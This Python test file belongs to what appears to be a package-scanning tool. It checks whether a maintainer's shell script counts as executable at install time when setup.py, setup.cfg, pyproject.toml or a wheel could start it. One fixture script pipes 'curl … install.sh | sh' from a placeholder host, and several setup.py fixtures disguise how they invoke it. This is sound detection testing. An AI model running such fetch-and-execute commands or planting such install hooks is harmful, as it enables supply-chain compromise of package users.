"""At first contact a maintainer's own script is no act of the release; one that the release could start is."""

import pytest

from lazaretto.core.names import Digest
from lazaretto.core.started import is_own
from lazaretto.core.tree import Blob, Tree
from tests.evasion.specimen import Specimen, ask, told

_SCRIPT = "#!/bin/sh\nset -x\ncurl -LsSf https://tools.invalid/install.sh | sh\n"
_SETUP = "from setuptools import setup\nsetup(name='example-package', version='1.0.1')\n"
_FOUND = "acts-at-first-contact/executes-fetched at build-docs.sh"


def _said(files: dict[str, str], *, sdist: bool = True) -> str:
    after = {"pad/__init__.py": "WIDTH = 2\n", "build-docs.sh": _SCRIPT, **({"setup.py": _SETUP} if sdist else {})}
    specimen = Specimen(row="scripts", title="script", after={**after, **files}, ecosystem="pypi", sdist=sdist)
    return told(ask(specimen))


def test_a_script_that_nothing_names_is_left() -> None:
    """It runs where it was written: at the maintainer's."""
    assert _FOUND not in _said({})
    assert _FOUND not in _said({"pad.egg-info/SOURCES.txt": "build-docs.sh\n", "README.md": "See build-docs.sh.\n"})


@pytest.mark.parametrize(
    "files",
    [
        {"setup.py": "import subprocess\nsubprocess.run(['sh', 'build-docs.sh'])\n" + _SETUP},
        {"setup.py": "import subprocess\nsubprocess.run(['sh', 'build' + '-docs' + '.sh'])\n" + _SETUP},
        {"setup.py": "import glob, subprocess\nsubprocess.run(['sh', glob.glob('*.sh')[0]])\n" + _SETUP},
        {"pad/__init__.py": "import os\ndef go(command):\n    os.system(command)\n"},
        {"pad/__init__.py": "NAME = 'build-docs.sh'\n"},
        {"setup.cfg": "[options]\nscripts =\n    build-docs.sh\n"},
        {"pyproject.toml": "[tool.pad]\nrun = 'build-docs.sh'\n"},
    ],
)
def test_one_that_the_release_could_start_counts(files: dict[str, str]) -> None:
    """Named, put together, or chosen by whatever nobody knows: it may run."""
    assert _FOUND in _said(files)


def test_one_that_is_installed_counts() -> None:
    """A wheel carries what others may start."""
    assert _FOUND in _said({}, sdist=False)


def test_a_program_of_the_build_may_be_handed_an_own_file_by_its_folder() -> None:
    """The folder is known to whoever runs it, the file to whoever reads it."""
    tree = Tree({"pad/Grammar": Blob(Digest("sha256:1"), b"")})

    assert is_own(tree, "{} {}/pad/Grammar {}/pad/grammar.h")
    assert not is_own(tree, "{} {}/pad/other")
